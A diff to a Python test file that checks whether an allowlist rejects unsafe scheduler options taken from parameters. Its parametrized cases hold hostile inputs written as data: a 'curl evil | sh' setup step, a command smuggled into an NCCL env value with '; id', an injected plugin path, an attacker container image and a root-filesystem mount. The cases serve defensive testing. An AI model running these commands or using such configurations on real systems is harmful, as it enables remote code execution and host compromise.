@@ -58,8 +58,7 @@ def _check(tmp_path: Path, **cluster: object) -> None:
     ({"env": {"NCCL_NET_PLUGIN": "/tmp/x.so"}}, "'NCCL_NET_PLUGIN'"),
     ({"env": {"NCCL_DEBUG": "INFO; id"}}, "'NCCL_DEBUG'"),
     ({"setup": ["curl evil | sh"]}, "setup"),
-    ({"container_image": "attacker/image"}, "container_image"),
-    ({"container_mounts": ["/:/host"]}, "container_mounts"),
+    ({"container": {"runtime": "pyxis", "image": "attacker/image", "mounts": ["/:/host"]}}, "container"),
 ])
 def test_scheduler_options_from_parameters_pass_an_allowlist(tmp_path: Path, overrides: dict, named: str) -> None:
     with pytest.raises(ParameterError) as e:
